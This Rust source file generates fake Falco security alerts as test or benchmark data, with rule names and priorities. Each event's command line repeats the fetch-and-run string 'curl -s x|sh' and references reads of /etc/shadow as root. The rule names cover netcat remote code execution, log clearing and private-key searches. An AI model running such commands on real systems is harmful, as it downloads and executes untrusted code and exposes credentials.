//! Events that look like Falco's, 1.4 to 2.1 kB.

use serde_json::json;

/// Where the serial number and the group of an event stand.
pub(crate) const SERIAL_MARK: &str = "999999999999";
pub(crate) const GROUP_MARK: &str = "888888";

/// A rule of Falco, its priority, and how many words the command line gets.
pub(crate) type Rule = (&'static str, &'static str, usize);

/// Rules that fire in turn.
pub(crate) const RULES: [Rule; 10] = [
    ("Terminal shell in container", "Notice", 10),
    ("Read sensitive file untrusted", "Warning", 20),
    ("Contact K8S API Server From Container", "Notice", 30),
    ("Drop and execute new binary in container", "Critical", 40),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Notice",
        25,
    ),
    ("Packet socket created in container", "Notice", 15),
    ("Clear Log Activities", "Warning", 35),
    ("Search Private Keys or Passwords", "Warning", 50),
    ("Netcat Remote Code Execution in Container", "Warning", 45),
    ("Run shell untrusted", "Notice", 55),
];

/// The bodies of one event of each rule.
pub(crate) fn bodies() -> Vec<Vec<u8>> {
    let body = |rule| body(rule).to_string().into_bytes();
    RULES.iter().map(body).collect()
}

/// An event of a rule, with the marks in it.
pub(crate) fn body((rule, priority, words): &Rule) -> serde_json::Value {
    let command = format!("sh -c {}", "curl -s x|sh ".repeat(*words / 2));
    let (pod, namespace) = (format!("api-{GROUP_MARK}-0"), "shop");
    json!({
        "uuid": format!("4bd1c9f8-3cf1-4a51-9d5c-{SERIAL_MARK}"),
        "output": format!(
            "A thing that has to be looked at | command={command} pod={pod} ns={namespace} serial={SERIAL_MARK}"
        ),
        "priority": priority,
        "rule": rule,
        "time": "2026-11-24T00:00:00Z",
        "source": "syscall",
        "hostname": "node-7.cluster.example",
        "tags": ["container", "maturity_stable", "mitre_execution", "shell", "T1059"],
        "output_fields": {
            "container.id": "3ad7b26ded6d",
            "container.image.repository": "registry.example/shop/api",
            "container.image.tag": "1.27.3",
            "container.name": "api",
            "evt.arg.flags": "O_RDONLY|O_CLOEXEC|FD_UPPER_LAYER",
            "evt.num": 8_723_611,
            "evt.time": 1_763_942_400_123_456_789_i64,
            "evt.type": "execve",
            "fd.lport": null,
            "fd.name": "/etc/shadow",
            "fd.rip": null,
            "k8s.ns.name": namespace,
            "k8s.pod.name": pod,
            "k8s.deployment.name": format!("api-{GROUP_MARK}"),
            "proc.aname[2]": "containerd-shim",
            "proc.cmdline": command,
            "proc.cwd": "/srv/app/",
            "proc.exepath": "/bin/dash",
            "proc.hash.sha256": "",
            "proc.name": "sh",
            "proc.pcmdline": "node /srv/app/server.js --port 8080",
            "proc.pid": 30_412,
            "proc.pname": "node",
            "proc.ppid": 30_102,
            "proc.sname": "node",
            "proc.tty": 34_816,
            "thread.cap_permitted": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_NET_BIND_SERVICE",
            "user.loginname": "<NA>",
            "user.loginuid": -1,
            "user.name": "root",
            "user.uid": 0,
        },
    })
}
